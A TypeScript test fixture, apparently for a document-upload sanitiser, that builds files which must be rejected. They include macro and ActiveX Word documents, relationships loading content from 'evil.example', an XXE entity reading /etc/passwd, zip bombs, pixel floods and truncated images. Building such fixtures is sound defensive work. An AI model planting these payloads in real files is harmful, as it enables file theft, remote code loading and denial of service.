import { archive, contentTypes, docx, relationships } from '../../../support/archive.ts'
import { hugePicture } from '../../../support/huge-picture.ts'

/** Stands in every file that could run; what was drawn again must not hold it. */
export const marker = 'planted-by-an-attacker'

export type Listed = [what: string, name: string, content: string | Buffer]

const macro = contentTypes('ms-word.document.macroEnabled')
const container = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])

/** Files that run or load something when they are opened, that take more than they seem to, or that are not whole. */
export const neverKept = (png: Buffer, jpeg: Buffer): Listed[] => [
  ['a small file of 256 million pixels', 'slip.png', hugePicture(16_000)],
  ['the head of a JPEG', 'slip.jpg', jpeg.subarray(0, 160)],
  ['half of a JPEG', 'slip.jpg', jpeg.subarray(0, jpeg.length - 200)],
  ['a PNG that was cut off', 'logo.png', png.subarray(0, 60)],
  ['a small file of 400 million pixels', 'logo.png', hugePicture(20_000)],
  [
    'a document with macros called DOCX',
    'cv.docx',
    archive({
      '[Content_Types].xml': macro,
      'word/document.xml': '<w/>',
      'word/vbaProject.bin': marker,
    }),
  ],
  ['a document with macros in other letters', 'cv.docx', docx({ 'word/VBAPROJECT.bin': marker })],
  [
    'a document of the older kind with macros',
    'cv.doc',
    Buffer.concat([container, Buffer.from('WordDocument_VBA_PROJECT', 'utf16le')]),
  ],
  ['a document with controls', 'cv.docx', docx({ 'word/activeX/activeX1.bin': marker })],
  ...['attachedTemplate', 'oleObject', 'frame', 'subDocument', 'image'].map(
    (type): Listed => [
      `a document that loads its ${type} from elsewhere`,
      'cv.docx',
      docx({
        'word/_rels/document.xml.rels': relationships({ type, target: `https://evil.example/${marker}` }),
      }),
    ],
  ),
  [
    'a document with entities from elsewhere',
    'cv.docx',
    docx({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
  ],
  [
    'a document that unpacks to 200 MB',
    'cv.docx',
    docx([{ name: 'word/document.xml', content: Buffer.alloc(200_000_000, ' '), packed: true }]),
  ],
  [
    'a document that unpacks to more than it says',
    'cv.docx',
    docx([{ name: 'word/document.xml', content: Buffer.alloc(50_000_000), packed: true, saidBytes: 900 }]),
  ],
  [
    'a document of 3,000 files',
    'cv.docx',
    docx(Object.fromEntries(Array.from({ length: 3_000 }, (_, n) => [`word/media/${n}.xml`, '<x/>']))),
  ],
  [
    'an archive in an archive in an archive',
    'cv.docx',
    docx({ 'word/a.docx': docx({ 'word/b.docx': docx({ 'word/c.docx': docx() }) }) }),
  ],
]
